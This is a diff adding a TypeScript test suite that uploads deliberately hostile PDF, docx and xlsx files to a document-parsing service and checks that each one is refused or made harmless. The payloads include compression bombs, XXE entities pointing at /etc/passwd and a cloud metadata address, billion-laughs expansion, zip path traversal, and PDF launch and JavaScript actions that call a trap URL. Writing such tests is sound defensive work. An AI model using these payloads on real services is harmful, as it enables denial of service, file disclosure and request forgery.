@@ -1,0 +1,307 @@
+// PDF and Office files that are out to do harm, uploaded to a real service.
+import assert from 'node:assert/strict';
+import { existsSync } from 'node:fs';
+import { readdir } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, afterEach, before, describe, it } from 'node:test';
+import { deflateSync } from 'node:zlib';
+import XLSX from '@e965/xlsx';
+import { deflatedZeros, nestedFlate } from '../extraction/support/deflate-bomb.ts';
+import { encryptedPdf } from '../extraction/support/encrypted-pdf.ts';
+import {
+  docx,
+  docxEntries,
+  OFFICE,
+  paragraph,
+  relations,
+  textCell,
+  WORD,
+  xlsx,
+  xlsxEntries,
+} from '../extraction/support/office-files.ts';
+import { ONE_PAGE, pdfStream, rawPdf } from '../extraction/support/raw-pdf.ts';
+import { rawZip, type ZipEntry, zipEntry } from '../extraction/support/raw-zip.ts';
+import { type HostileUploads, startHostileUploads, startTrap, type Trap } from './hostile-uploads.ts';
+import { leftInStaging } from './uploads.ts';
+
+let uploads: HostileUploads;
+let trap: Trap;
+before(async () => {
+  [uploads, trap] = await Promise.all([startHostileUploads(), startTrap()]);
+});
+after(async () => {
+  await uploads.stop();
+  await trap.close();
+});
+afterEach(async () => {
+  assert.equal(trap.calls(), 0, 'nothing is ever fetched');
+  assert.equal(await uploads.textOf('good.txt', 'The next one is read.'), 'The next one is read.');
+});
+
+const become = async (name: string, content: string | Buffer) => (await uploads.read(name, content)).became;
+const OVER = 'failed resource_limit_exceeded';
+/** Deflated five times over, this many zeros are a few hundred bytes. */
+const PETABYTE = 1e15;
+const FIVE_FILTERS = `/Filter[${'/FlateDecode'.repeat(5)}]`;
+const bomb = (dictionary = '') => pdfStream(nestedFlate(5, PETABYTE), FIVE_FILTERS + dictionary);
+
+describe('a PDF with a password', () => {
+  it('that is needed to open it: password_protected', async () => {
+    const locked = encryptedPdf('Words behind it', { user: 'secret', owner: 'master' });
+    assert.equal(await become('locked.pdf', locked), 'failed password_protected');
+  });
+
+  it('that only its owner needs, to change it, is read', async () => {
+    const open = encryptedPdf('Words for all', { user: '', owner: 'master' });
+    assert.equal(await uploads.textOf('open.pdf', open), 'Words for all');
+  });
+});
+
+describe('a PDF without end', () => {
+  const tree = (kids: string, count: number) =>
+    rawPdf({ ...ONE_PAGE, 2: `<</Type/Pages/Kids[${kids}]/Count ${count}>>` });
+
+  it('that inflates to a petabyte: resource_limit_exceeded', async () => {
+    const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>';
+    const table = [Buffer.from('%PDF-1.5\n9 0 obj\n'), bomb('/Type/XRef/Size 10/W[1 2 1]/Root 1 0 R')];
+    assert.equal(await become('page.pdf', rawPdf({ ...ONE_PAGE, 4: bomb() })), OVER);
+    assert.equal(await become('font.pdf', rawPdf({ ...ONE_PAGE, 5: font, 6: bomb() })), OVER);
+    const tail = Buffer.from('\nendobj\nstartxref\n9\n%%EOF');
+    assert.equal(await become('table.pdf', Buffer.concat([...table, tail])), OVER);
+  });
+
+  it('whose pages are its own ancestors: resource_limit_exceeded', async () => {
+    assert.equal(await become('self.pdf', tree('2 0 R', 1)), OVER);
+    assert.equal(await become('self-and-page.pdf', tree('3 0 R 2 0 R', 2)), OVER);
+    const two = { 2: '<</Type/Pages/Kids[6 0 R]/Count 5>>', 6: '<</Type/Pages/Kids[2 0 R 6 0 R]/Count 9>>' };
+    assert.equal(await become('each-other.pdf', rawPdf({ ...ONE_PAGE, ...two })), OVER);
+  });
+
+  it('whose update says that the one before is itself: resource_limit_exceeded', async () => {
+    assert.equal(await become('previous.pdf', rawPdf(ONE_PAGE, '/Prev @xref')), OVER);
+  });
+
+  it('of a million objects: resource_limit_exceeded', async () => {
+    const count = 1_000_000;
+    const head = Array.from({ length: count }, (_, index) => `${index + 10} ${index * 2} `).join('');
+    const data = deflateSync(head + '0 '.repeat(count), { level: 1 });
+    const objects = pdfStream(data, `/Type/ObjStm/N ${count}/First ${head.length}/Filter/FlateDecode`);
+    assert.equal(await become('objects.pdf', rawPdf({ ...ONE_PAGE, 6: objects })), OVER);
+  });
+
+  it('that states 999,999,999 pages, or repeats one a million times: 422 too_many_pages', async () => {
+    assert.equal(await become('count.pdf', tree('3 0 R', 999_999_999)), '422 file:too_many_pages');
+    const kids = '3 0 R '.repeat(1_000_000);
+    assert.equal(await become('kids.pdf', tree(kids, 1_000_000)), '422 file:too_many_pages');
+  });
+});
+
+describe('a PDF with something to run', () => {
+  it('is read, and nothing of it runs: scripts, programs, forms that send themselves, crafted fonts', async () => {
+    const proof = join(uploads.app.dataDir, 'was-run');
+    const launch = `<</S/Launch/F(/usr/bin/touch)/Unix(touch ${proof})/Win<</F(touch)/P(${proof})>>>>`;
+    const script = `<</S/JavaScript/JS(app.launchURL\\("${trap.url}/js"\\))>>`;
+    const send = `<</S/SubmitForm/F(${trap.url}/form)/Next ${script}>>`;
+    const active = rawPdf({
+      ...ONE_PAGE,
+      1: `<</Type/Catalog/Pages 2 0 R/OpenAction ${launch}/AA<</WC ${script}/DC ${send}>>/Names<</JavaScript<</Names[(a)${script}]>>>>>>`,
+      3: `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/AA<</O ${launch}/C ${send}>>/Resources<</Font<</F 5 0 R>>>>>>`,
+      5: `<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 2 3 4 5 (0\\); fetch\\('${trap.url}'\\))]>>`,
+      6: pdfStream(Buffer.from(`#!/bin/sh\ntouch ${proof}\n`), '/Type/EmbeddedFile'),
+      7: '<</Type/Filespec/F(run.sh)/EF<</F 6 0 R>>>>',
+    });
+    assert.equal(await uploads.textOf('active.pdf', active), 'Words on the page');
+    assert.ok(!existsSync(proof));
+  });
+});
+
+/** An entry of ten gigabytes in ten megabytes. */
+function tenGigabytes(name: string, statedSize?: number): ZipEntry {
+  const { bytes, size } = deflatedZeros(1e10);
+  return { name, packed: bytes, statedSize: statedSize ?? size, checksum: 0 };
+}
+
+const KINDS = [
+  {
+    kind: 'docx',
+    entries: docxEntries(paragraph('Words')),
+    main: 'word/document.xml',
+    other: 'word/media/a.bin',
+  },
+  {
+    kind: 'xlsx',
+    entries: xlsxEntries(`<row r="1">${textCell('A1', 'Words')}</row>`),
+    main: 'xl/worksheets/sheet1.xml',
+    other: 'xl/media/a.bin',
+  },
+];
+
+for (const { kind, entries, main, other } of KINDS)
+  describe(`a ${kind} that is a bomb fails as resource_limit_exceeded`, () => {
+    const becomes = async (extra: ZipEntry[], without = '') => {
+      const all = [...entries.filter(({ name }) => name !== without), ...extra];
+      assert.equal(await become(`bomb.${kind}`, rawZip(all)), OVER);
+    };
+
+    it('where it inflates to ten gigabytes, whatever its headers say', async () => {
+      await becomes([tenGigabytes(main)], main);
+      await becomes([tenGigabytes(main, 0)], main);
+      await becomes([tenGigabytes(other, 1000)]);
+    });
+
+    it('where it has 65,000 entries', () => {
+      const empty = zipEntry('', '');
+      return becomes(Array.from({ length: 65_000 }, (_, index) => ({ ...empty, name: `${other}${index}` })));
+    });
+
+    it('where archives in archives in it are one', async () => {
+      const { bytes, size } = deflatedZeros(4e9);
+      let inner = rawZip([{ name: 'zeros', packed: bytes, statedSize: size, checksum: 0 }]);
+      for (let depth = 0; depth < 3; depth++)
+        inner = rawZip([zipEntry('a.zip', inner), zipEntry('b.zip', inner)]);
+      await becomes([zipEntry(`${other}.zip`, inner)]);
+    });
+
+    it('where an entry would leave its folder; nothing is written there', async () => {
+      const name = `legible-escape-${process.pid}`;
+      await becomes([zipEntry(`../../${name}`, 'out')]);
+      const { dataDir } = uploads.app;
+      const places = [...(await readdir(dataDir, { recursive: true })), ...(await readdir(tmpdir()))];
+      assert.deepEqual(
+        [places.filter((place) => place.endsWith(name)), await leftInStaging({ dataDir })],
+        [[], []],
+      );
+    });
+  });
+
+describe('an Office file that refers to what is outside', () => {
+  const declaring = (declarations: string, body: string) => ({
+    'a.docx': docx('', {
+      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE x [${declarations}]><w:document ${WORD}><w:body>${paragraph(body)}</w:body></w:document>`,
+    }),
+    'a.xlsx': xlsx('', {
+      'xl/worksheets/sheet1.xml': `<?xml version="1.0"?><!DOCTYPE x [${declarations}]><worksheet><sheetData><row r="1">${textCell('A1', body)}</row></sheetData></worksheet>`,
+    }),
+  });
+  const eachText = async (files: Record<string, Buffer>, check: (text: string) => void) => {
+    for (const [name, bytes] of Object.entries(files)) check(await uploads.textOf(name, bytes));
+  };
+
+  it('by entities: no file stands in the text, nothing is asked for', async () => {
+    const target = ['file:///etc/passwd', `${trap.url}/entity`, 'http://169.254.169.254/latest/meta-data/'];
+    const general = target.map((url, index) => `<!ENTITY e${index} SYSTEM "${url}">`).join('');
+    const parameter = `<!ENTITY % p SYSTEM "${trap.url}/parameter"> %p;`;
+    await eachText(declaring(general + parameter, '[&e0;&e1;&e2;]'), (text) =>
+      assert.match(text, /\[&e0;&e1;&e2;\]/),
+    );
+  });
+
+  it('by a billion laughs: not one of them', async () => {
+    const levels = Array.from(
+      { length: 9 },
+      (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
+    );
+    await eachText(declaring(`<!ENTITY l0 "laugh">${levels.join('')}`, '[&l9;]'), (text) =>
+      assert.match(text, /\[&l9;\]/),
+    );
+  });
+
+  it('by a million numbered characters: they are the text', async () => {
+    const many = '&#65;'.repeat(1_000_000);
+    await eachText(
+      { 'a.docx': docx(paragraph(many)), 'a.xlsx': xlsx(`<row r="1">${textCell('A1', many)}</row>`) },
+      (text) => assert.equal(text.match(/A/g)?.length, 1_000_000),
+    );
+  });
+
+  it('by linked pictures: neither a file nor an address is opened', async () => {
+    const drawing =
+      '<w:p><w:r><w:drawing><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:blip r:link="p"/></a:graphic></w:drawing></w:r></w:p>';
+    for (const target of ['file:///etc/passwd', '/etc/passwd', '/dev/zero', `${trap.url}/picture.png`]) {
+      const picture = relations([{ id: 'p', type: 'image', target, external: true }]);
+      const linked = docx(drawing + paragraph('Words'), { 'word/_rels/document.xml.rels': picture });
+      assert.equal(await uploads.textOf('linked.docx', linked), 'Words');
+    }
+  });
+
+  it('by external workbooks, and with macros: its own cells and words are read', async () => {
+    const outside = relations([
+      { id: 'x', type: 'externalLinkPath', target: `${trap.url}/b.xlsx`, external: true },
+    ]);
+    const cells = `<row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>42</v></c></row>`;
+    const book = xlsx(cells, {
+      'xl/externalLinks/externalLink1.xml': `<externalLink xmlns:r="${OFFICE}"><externalBook r:id="x"/></externalLink>`,
+      'xl/externalLinks/_rels/externalLink1.xml.rels': outside,
+      'xl/vbaProject.bin': 'Sub Auto_Open()',
+    });
+    assert.match(await uploads.textOf('linked.xlsx', book), /42/);
+    const letter = docx(paragraph('Words'), { 'word/vbaProject.bin': 'Sub AutoOpen()' });
+    assert.equal(await uploads.textOf('macros.docx', letter), 'Words');
+  });
+});
+
+describe('an Office file with a password', () => {
+  for (const name of ['secret.docx', 'secret.xlsx'])
+    it(`(${name}) fails as password_protected`, async () => {
+      const container = XLSX.CFB.utils.cfb_new();
+      XLSX.CFB.utils.cfb_add(container, '/EncryptionInfo', Buffer.alloc(248, 4));
+      XLSX.CFB.utils.cfb_add(container, '/EncryptedPackage', Buffer.alloc(8000, 5));
+      const bytes = Buffer.from(XLSX.CFB.write(container, { type: 'buffer' }));
+      assert.equal(await become(name, bytes), 'failed password_protected');
+    });
+});
+
+describe('a docx whose styles are out to confuse', () => {
+  const STYLES = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
+  const styled = (ids: string[], text: (id: string) => string, more = {}) =>
+    docx(ids.map((id) => paragraph(text(id), `<w:pPr><w:pStyle w:val="${id}"/></w:pPr>`)).join(''), {
+      'word/_rels/document.xml.rels': relations([{ id: 's', type: 'styles', target: 'styles.xml' }]),
+      'word/styles.xml': `<w:styles ${WORD}>${ids
+        .map(
+          (id) =>
+            `<w:style w:type="paragraph" w:styleId="${id}"><w:name w:val="${id}"/><w:basedOn w:val="${id}"/></w:style>`,
+        )
+        .join('')}</w:styles>`,
+      ...more,
+    });
+
+  it('by names of the language’s own, or that tire a pattern: it is read, and so is what comes after', async () => {
+    const good = docx(paragraph('Title', '<w:pPr><w:pStyle w:val="Heading1"/></w:pPr>') + paragraph('Words'));
+    const earlier = await uploads.textOf('good.docx', good);
+    const text = await uploads.textOf(
+      'names.docx',
+      styled(STYLES, (id) => `in ${id}`),
+    );
+    for (const id of STYLES) assert.ok(text.includes(`in ${id}`));
+    const tiring = styled([`${'heading '.repeat(200_000)}!`], () => 'Words', {
+      'mammoth/style-map': `p[style-name='${'\\'.repeat(200_000)}`,
+    });
+    assert.equal(await uploads.textOf('pattern.docx', tiring), 'Words');
+    assert.equal(await uploads.textOf('good.docx', good), earlier);
+  });
+});
+
+describe('an xlsx that states more than it has', () => {
+  it('costs no more than what it has: a row a billion down, a merged cell over the whole sheet', async () => {
+    const near = `<row r="1">${textCell('A1', 'near')}</row>`;
+    const far = `<row r="1000000000">${textCell('A1000000000', 'far')}</row>`;
+    const { parsedData } = await uploads.read('far.xlsx', xlsx(near + far));
+    assert.deepEqual(parsedData?.tables[0]?.rows, [['near']]);
+    const sheet = `<worksheet><dimension ref="A1:XFD1048576"/><sheetData>${near}</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>`;
+    const merged = await uploads.read('merged.xlsx', xlsx('', { 'xl/worksheets/sheet1.xml': sheet }));
+    assert.deepEqual(merged.parsedData?.tables[0]?.rows, [['near']]);
+  });
+
+  it('has its headings as they are written, also __proto__', async () => {
+    const row = (number: number, ...texts: string[]) =>
+      `<row r="${number}">${texts.map((text, column) => textCell(`${'AB'[column]}${number}`, text)).join('')}</row>`;
+    const bytes = xlsx(row(1, '__proto__', 'constructor') + row(2, 'admin', 'true'));
+    const { parsedData } = await uploads.read('headings.xlsx', bytes);
+    assert.deepEqual(parsedData?.tables[0]?.rows, [
+      ['__proto__', 'constructor'],
+      ['admin', 'true'],
+    ]);
+    assert.equal(Reflect.get({}, 'admin'), undefined);
+  });
+});
